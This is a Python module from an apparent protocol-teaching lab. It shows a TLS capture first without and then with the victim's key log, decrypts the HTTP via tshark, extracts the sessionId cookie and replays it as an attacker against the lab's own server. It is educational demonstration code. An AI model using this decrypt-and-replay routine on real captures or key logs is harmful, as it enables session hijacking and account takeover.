"""The TLS half of `protolab hijack-demo`: the capture without the key log, then with it.

Where state lives: the victim's session cookie is the same key to the same server-side session;
TLS only decides who can read it on the wire. Without the key log the capture holds encrypted
records: nothing to steal. The key log (the victim's client wrote it: Python's
`SSLContext.keylog_filename`, the format of NSS's SSLKEYLOGFILE) holds the traffic secrets, and
with it tshark decrypts the HTTP inside, cookie and all; the attacker replays it over its own TLS
connection and is the victim again.
"""

from __future__ import annotations

import shutil
import ssl
import subprocess
from collections.abc import Callable
from pathlib import Path

from protolab.analysis.exposed import scan
from protolab.labs.cluster import Client, Cluster
from protolab.labs.hijack import ATTACKER, HijackResult, _line, _send
from protolab.wire.packets import decode
from protolab.wire.pcap import read_pcap

Out = Callable[[str], None]


def tls_packets(path: Path, port: int) -> list[tuple[int, object]]:
    """(number, decoded frame) of the capture's packets to or from `port`."""
    out = []
    for n, rec in enumerate(read_pcap(path), 1):
        d = decode(rec.data, rec.linktype, rec.time)
        if port in (d.sport, d.dport):
            out.append((n, d))
    return out


def decrypt(path: Path, keylog: Path, port: int) -> tuple[list[tuple[int, str, str]], str]:
    """tshark's reading, with the key log, of the HTTP inside TLS on `port`: (frame, Cookie,
    Set-Cookie) of each message carrying one; and why tshark did not run ("" when it did)."""
    exe = shutil.which("tshark")
    if exe is None:
        return [], "tshark is not installed"
    cmd = [exe, "-r", str(path), "-o", f"tls.keylog_file:{keylog}", "-d",
           f"tcp.port=={port},tls", "-d", f"tls.port=={port},http", "-Y",
           f"tcp.port == {port} && (http.cookie || http.set_cookie)", "-T", "fields", "-E",
           "separator=|", "-e", "frame.number", "-e", "http.cookie", "-e", "http.set_cookie"]
    done = subprocess.run(cmd, capture_output=True, text=True, timeout=60)
    if done.returncode != 0:
        return [], f"tshark failed: {done.stderr.strip().splitlines()[-1:]}"
    rows = []
    for line in done.stdout.splitlines():
        number, cookie, set_cookie = (line.split("|") + ["", ""])[:3]
        rows.append((int(number), cookie, set_cookie))
    return rows, ""


def stolen_cookie(decrypted: list[tuple[int, str, str]]) -> str:
    """The first sessionId a decrypted request carried."""
    for _, cookie, _ in decrypted:
        for part in cookie.split(";"):
            name, _, value = part.strip().partition("=")
            if name == "sessionId":
                return value
    return ""


def tls_theft(result: HijackResult, cluster: Cluster, path: Path, victim: Client,
              out: Out) -> None:
    """The written capture's TLS port without the key log, then with it; the replay."""
    t = result.tls
    t.session = victim.cookies.get("sessionId", "")
    packets = tls_packets(path, t.port)
    t.scan = scan(packets)
    t.id_in_bytes = bool(t.session) and any(t.session.encode() in d.payload
                                            for _, d in packets)
    out(f"   the capture's packets to and from :{t.port}, without the key log: "
        f"{len(t.scan.items)} items exposed, {len(t.scan.tls)} TLS connections (encrypted); "
        f"the victim's session id in their bytes: {'yes' if t.id_in_bytes else 'no'}")
    t.decrypted, t.tshark = decrypt(path, result.keylog, t.port)
    if t.tshark:
        out(f"   with the key log: not tried ({t.tshark})")
        return
    cookie = stolen_cookie(t.decrypted)
    out(f"   with the key log ({result.keylog}), tshark decrypts: " + "; ".join(
        f"#{n} " + (f"Cookie: {c}" if c else f"Set-Cookie: {s}") for n, c, s in t.decrypted))
    if not cookie:
        return
    ctx = ssl.create_default_context(cafile=str(t.ca))
    attacker = Client(cluster.address, ATTACKER, tls=ctx)
    attacker.cookies = {"sessionId": cookie}
    t.replay = _send(result, attacker, "attacker", "tls", "replay", "GET", "/profile")
    out(_line(t.replay, "GET /profile over its own TLS, with the decrypted cookie "
                        "(after the capture: not in it)"))
